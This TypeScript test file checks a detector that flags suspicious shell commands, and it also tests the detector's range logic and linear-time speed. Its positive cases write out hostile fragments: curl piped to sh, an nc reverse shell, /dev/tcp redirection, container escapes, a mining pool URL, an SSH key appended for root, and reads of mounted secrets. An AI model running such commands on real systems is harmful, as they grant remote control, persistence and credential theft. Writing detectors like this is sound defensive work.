import assert from 'node:assert/strict';
import { test } from 'node:test';
import { growth } from '../lib/testing.ts';
import { Pool } from './budget.ts';
import { Suspects, suspectsIn } from './suspects.ts';

for (const text of [
  'curl -s x | sh',
  'a | /bin/bash',
  'cat x|sh',
  'nc -e /bin/sh h 1',
  'exec 3<>/dev/tcp/h/1',
  'echo x | base64 -d',
  'eval "$A"',
  'python3 -c x',
  'nsenter -t 1 -m',
  'chroot /host',
  './a -o stratum+tcp://p:1',
  'echo k >> /root/.ssh/authorized_keys',
  'chmod +x /tmp/a',
  "$'\\x63\\x75'",
  'cat /var/run/secrets/x',
]) {
  test(`something may be behind: ${text}`, () => assert.ok(suspectsIn(text).length > 0));
}
for (const text of ['echo step 1', 'mkdir -p /data/in && cd /data/in', 'date', '# nothing', 'A=b', 'sort a | uniq']) {
  test(`nothing is behind: ${text}`, () => assert.deepEqual(suspectsIn(text), []));
}

test('only what stands between the two places counts', () => {
  const text = 'date\ncurl a\ndate';
  const suspects = new Suspects();
  const budget = new Pool().budgetFor(text.length);
  const within = (from: number, to: number) => suspects.within(text, from, to, budget);
  assert.deepEqual([within(0, 4), within(5, 11), within(12, 16), within(0, 16)], [false, true, false, true]);
  assert.ok(!suspects.within('date', 0, 4, budget));
});
test('few of very many places are kept', () => assert.equal(suspectsIn('curl '.repeat(100_000)).length, 4000));
for (const piece of ['curl ', '| ', '|/a', '$', 'n', '|/aaaaaaaa']) {
  test(`linear on ${JSON.stringify(piece)} without end`, () => {
    const ratio = growth((size) => suspectsIn(piece.repeat(size / piece.length)), 100_000);
    assert.ok(ratio < 12, `four times the text took ${ratio.toFixed(1)} times as long`);
  });
}
